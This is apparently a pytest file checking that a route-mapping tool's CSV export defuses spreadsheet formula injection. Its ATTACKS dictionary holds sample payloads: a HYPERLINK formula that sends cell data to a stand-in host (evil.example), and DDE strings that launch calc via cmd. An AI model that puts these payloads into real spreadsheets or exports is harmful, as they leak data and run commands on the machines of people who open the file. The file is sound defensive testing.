"""CSV export against spreadsheet formula injection, read back with pandas.

A text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
run as a formula by Excel, LibreOffice or Google Sheets; the export prefixes it
with ``'`` so it shows as text. Numbers, including negative ones, stay numbers.
"""

from __future__ import annotations

import io

import pandas as pd
import pytest

from routemap import cli
from routemap.export import formats as export
from routemap.view import filters
from routemap.view.filters import View

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("value", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_cell_starting_with_a_formula_character_is_neutralised(value):
    assert export.neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Yan'an", "", "Site of the 7th Congress", " =not first", "a=b", "中文"])
def test_other_text_is_left_alone(value):
    assert export.neutralise_formula(value) is value


@pytest.mark.parametrize("value", [-1, -108.5, 0, 3.25, None])
def test_numbers_and_missing_values_are_left_alone(value):
    assert export.neutralise_formula(value) is value


def with_hostile_cells(dataset) -> View:
    """The whole route with attacks in text columns of the first stops and a negative longitude."""
    view = filters.apply(dataset)
    stops = view.stops.copy()
    for row, value in enumerate(ATTACKS.values()):
        stops.loc[row, "name"] = value
        stops.loc[row, "description"] = value
    stops.loc[0, "source_quote"] = "-- a quote that starts with dashes"
    stops.loc[0, "lon"] = -0.1278  # a real place west of Greenwich must stay a number
    return View(view.dataset, view.selection, stops, view.mentioned, view.legs)


def read_back(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), keep_default_na=False, na_values=[""])


def test_exported_csv_read_back_with_pandas_has_every_attack_inert(dataset):
    view = with_hostile_cells(dataset)
    table = read_back(export.export_text(view, "csv"))
    assert len(table) == len(view.stops) + len(view.mentioned)
    for row, value in enumerate(ATTACKS.values()):
        assert table.loc[row, "name"] == "'" + value
        assert table.loc[row, "description"] == "'" + value
    assert table.loc[0, "source_quote"] == "'-- a quote that starts with dashes"
    text_cells = table.select_dtypes(include=["object", "string"]).stack()
    assert not text_cells.astype(str).str.match(r"^[=+\-@\t\r]").any()


def test_a_carriage_return_or_newline_in_a_cell_keeps_the_row_whole(dataset):
    view = with_hostile_cells(dataset)
    stops = view.stops.copy()
    stops.loc[7, "description"] = "one\rtwo\nthree\r\nfour"
    text = export.export_text(View(view.dataset, view.selection, stops, view.mentioned, view.legs), "csv")
    table = read_back(text)
    assert len(table) == len(view.stops) + len(view.mentioned)
    assert table.loc[7, "description"] == "one\rtwo\nthree\r\nfour"


def test_numbers_stay_numbers(dataset):
    view = with_hostile_cells(dataset)
    table = read_back(export.export_text(view, "csv"))
    assert pd.api.types.is_float_dtype(table["lat"]) and pd.api.types.is_float_dtype(table["lon"])
    assert table.loc[0, "lon"] == pytest.approx(-0.1278)
    assert table["lat"].tolist() == pytest.approx([*view.stops["lat"], *view.mentioned["lat"]])
    stops = table["stop"].dropna()
    assert (stops == stops.round()).all() and stops.tolist() == list(range(1, 15))


def test_the_shipped_dataset_round_trips_unchanged(dataset):
    """Nothing in the real data starts with a formula character, so nothing gains a quote."""
    view = filters.apply(dataset)
    table = read_back(export.export_text(view, "csv"))
    assert table["name"].tolist() == [*view.stops["name"], *view.mentioned["name"]]
    assert table["name_zh"].tolist() == [*view.stops["name_zh"], *view.mentioned["name_zh"]]


def test_cli_csv_carries_the_filters(tmp_path):
    out = tmp_path / "places.csv"
    assert cli.main(["export", "--format", "csv", "--kind", "energy", "-o", str(out)]) == cli.EXIT_OK
    table = read_back(out.read_text(encoding="utf-8"))
    assert set(table["kind"]) == {"energy"} and len(table) == 2
